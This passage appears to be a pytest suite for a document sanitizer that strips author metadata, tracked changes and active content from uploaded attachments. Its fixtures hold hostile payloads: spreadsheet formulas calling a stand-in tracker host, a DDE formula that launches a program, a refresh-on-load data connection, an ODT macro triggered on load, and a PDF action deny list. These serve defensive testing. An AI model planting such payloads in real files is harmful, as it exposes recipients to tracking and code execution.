    reader = PdfReader(io.BytesIO(pdf))
    keys, strings = _pdf_strings(reader)
    assert "/Highlight" in {a.get_object()["/Subtype"] for a in reader.pages[0]["/Annots"]}
    assert COMMENTER in strings  # the highlight's author
    assert not {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/XFA"} & keys
    assert not reader.metadata


def test_with_the_setting_off_an_anonymous_comment_still_names_nobody(app):
    app.config["ATTACHMENTS_CLEAN_ALL"] = False

    (served,) = _published_anonymously(app, [(reviewed_docx(), "testimony.docx")])

    _assert_names_nobody_and_fetches_nothing(served)


def test_with_the_setting_off_a_named_comment_made_anonymous_has_its_files_cleaned(app):
    app.config["ATTACHMENTS_CLEAN_ALL"] = False
    with app.app_context():
        make_open_round(mode=ModerationMode.post)
    contributor = app.test_client()
    sign_in(contributor, app, make_user(app))
    assert _send(app, contributor, "Named first.", [(reviewed_docx(), "t.docx")], "named").status_code == 302
    with app.app_context():
        comment = db.session.scalar(select(Comment))
        public_id, first_file = comment.public_id, comment.attachments[0].storage_name
        assert (
            b"w:ins "
            in _members((Path(app.config["UPLOAD_FOLDER"]) / first_file).read_bytes())["word/document.xml"]
        )

    edit = f"/comments/{public_id}/edit"
    changed = submit(
        contributor,
        edit,
        comment_form(target="round", body="Anonymous now.", publication="anonymous"),
        page=edit,
    )

    assert changed.status_code == 302, changed.get_data(as_text=True)[:2000]
    with app.app_context():
        attachment = db.session.scalar(select(Attachment))
        assert attachment.storage_name != first_file
    assert not (Path(app.config["UPLOAD_FOLDER"]) / first_file).exists()
    (served,) = _downloads_signed_out(app, 1)
    _assert_names_nobody_and_fetches_nothing(served)


@pytest.mark.parametrize(
    ("make", "kind"), [(reviewed_docx, DOCX), (annotated_pdf, PDF), (noted_xlsx, XLSX), (tracked_odt, ODT)]
)
def test_the_kernel_cleans_every_kind_without_the_web(tmp_path, make, kind):
    stored = store(make(), "file", tmp_path)

    data = (tmp_path / stored.storage_name).read_bytes()
    assert stored.content_type == kind
    if kind == PDF:
        _assert_pdf_names_nobody_and_does_nothing(data)
    else:
        _assert_names_nobody_and_fetches_nothing(data)


# --- Links that fetch, in workbooks, texts and packages inside packages -----------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def linked_xlsx() -> bytes:
    """A workbook made by openpyxl, then linked: formulas that fetch or start a program, a formula's source in
    another workbook on a tracker's share, and a data connection that queries the tracker on refresh."""
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Linked figures"
    workbook.active["A2"] = f'=WEBSERVICE("http://{TRACKER}/w")'
    workbook.active["A3"] = f'=_xlfn.IMAGE("https://{TRACKER}/i.png")'
    workbook.active["A4"] = "=cmd|' /c calc'!A0"
    workbook.active["A5"] = "=SUM(1,2)"
    output = io.BytesIO()
    workbook.save(output)
    members = _members(output.getvalue())
    members["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{_MAIN}" xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Data"/></sheetNames></externalBook></externalLink>'
    ).encode()
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{R}/externalLinkPath" '
        f'Target="file:///\\\\{TRACKER}\\share\\book.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    members["xl/connections.xml"] = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
        f'<webPr url="http://{TRACKER}/data" htmlTables="1"/></connection></connections>'
    ).encode()
    members["xl/_rels/workbook.xml.rels"] = _add_relationships(
        members["xl/_rels/workbook.xml.rels"],
        f'<Relationship Id="rIdLink" Type="{R}/externalLink" Target="externalLinks/externalLink1.xml"/>',
        f'<Relationship Id="rIdConnections" Type="{R}/connections" Target="connections.xml"/>',
    )
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(
        b"</sheets>",
        f'</sheets><externalReferences xmlns:r="{R}"><externalReference r:id="rIdLink"/>'
        "</externalReferences>".encode(),
    )
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    members["[Content_Types].xml"] = _add_overrides(
        members["[Content_Types].xml"],
        ("/xl/externalLinks/externalLink1.xml", f"{sheet}.externalLink+xml"),
        ("/xl/connections.xml", f"{sheet}.connections+xml"),
    )
    return _zip(members)


def test_a_workbook_loses_its_links_to_other_workbooks_and_its_data_connections(tmp_path):
    stored = store(linked_xlsx(), "linked.xlsx", tmp_path)

    data = (tmp_path / stored.storage_name).read_bytes()
    members = _assert_names_nobody_and_fetches_nothing(data)
    assert not [name for name in members if "externalLink" in name or "connections" in name]
    assert b"externalReference" not in members["xl/workbook.xml"]
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "Linked figures" and sheet["A5"].value == "=SUM(1,2)"
    assert (sheet["A2"].value, sheet["A3"].value, sheet["A4"].value) == (None, None, None)


def test_an_odt_loses_its_scripts_and_script_links_but_keeps_web_links_and_their_text(tmp_path):
    script = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
    members = _members(tracked_odt())
    members["content.xml"] = (
        members["content.xml"]
        .replace(
            b"<office:body>",
            f'<office:scripts><office:event-listeners xmlns:script="{script}"><script:event-listener '
            'script:event-name="dom:load" script:language="ooo:script" xlink:type="simple" '
            f'xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;location=application"/>'
            "</office:event-listeners></office:scripts><office:body>".encode(),
            1,
        )
        .replace(
            b"</office:text>",
            b'<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Run">'
            b'Run</text:a> <text:a xlink:type="simple" xlink:href="https://www.ohchr.org/">OHCHR</text:a>'
            b"</text:p></office:text>",
            1,
        )
    )

    stored = store(_zip(members), "scripted.odt", tmp_path)

    data = (tmp_path / stored.storage_name).read_bytes()
    content = _assert_names_nobody_and_fetches_nothing(data)["content.xml"]
    assert b"vnd.sun.star.script" not in content and b"event-listener" not in content
    assert b'xlink:href="https://www.ohchr.org/"' in content
    text = "\n".join(teletype.extractText(p) for p in load(io.BytesIO(data)).getElementsByType(odftext.P))
    assert "Run OHCHR" in text


def test_a_workbook_inside_a_word_file_is_cleaned_too(tmp_path):
    chart = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    members = _members(reviewed_docx())
    members["word/charts/chart1.xml"] = (
        f'<c:chartSpace xmlns:c="{chart}" xmlns:r="{R}"><c:externalData r:id="rId1"/></c:chartSpace>'
    ).encode()
    members["word/charts/_rels/chart1.xml.rels"] = (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{R}/package" '
        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>'
    ).encode()
    members["word/embeddings/Microsoft_Excel_Worksheet.xlsx"] = noted_xlsx()
    members["word/_rels/document.xml.rels"] = _add_relationships(
        members["word/_rels/document.xml.rels"],
        f'<Relationship Id="rIdChart" Type="{R}/chart" Target="charts/chart1.xml"/>',
    )
    members["[Content_Types].xml"] = _add_overrides(
        members["[Content_Types].xml"],
        ("/word/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"),
    ).replace(
        b"</Types>",
        b'<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sheet"/></Types>',
    )

    stored = store(_zip(members), "chart.docx", tmp_path)

    members = _assert_names_nobody_and_fetches_nothing((tmp_path / stored.storage_name).read_bytes())
    inside = members["word/embeddings/Microsoft_Excel_Worksheet.xlsx"]
    _assert_names_nobody_and_fetches_nothing(inside)
    assert openpyxl.load_workbook(io.BytesIO(inside)).active["A1"].value == "Figures stay"


def test_clean_attachments_cleans_the_files_stored_before_and_names_those_it_cannot(app):
    app.config["ATTACHMENTS_CLEAN_ALL"] = False
    (kept,) = _published_anonymously(app, [(reviewed_docx(), "testimony.docx")], publication="named")
    assert COMMENTER.encode() in _members(kept)["word/comments.xml"]
    folder = Path(app.config["UPLOAD_FOLDER"])
    with app.app_context():
        before = db.session.scalar(select(Attachment)).storage_name
    app.config["ATTACHMENTS_CLEAN_ALL"] = True
    runner = app.test_cli_runner()

    cleaned = runner.invoke(args=["consult", "clean-attachments"])

    assert cleaned.exit_code == 0 and "1 files cleaned, 0 could not be" in cleaned.output
    assert not (folder / before).exists()
    (served,) = _downloads_signed_out(app, 1)
    _assert_names_nobody_and_fetches_nothing(served)
    assert "0 files cleaned, 0 could not be" in runner.invoke(args=["consult", "clean-attachments"]).output
    with app.app_context():
        attachment = db.session.scalar(select(Attachment))
        (folder / attachment.storage_name).write_bytes(macro_enabled_docx())  # as an older version let it in
        public_id = attachment.public_id
    refused = runner.invoke(args=["consult", "clean-attachments"])
    assert f"attachment {public_id} could not be cleaned" in refused.output
    assert "0 files cleaned, 1 could not be" in refused.output
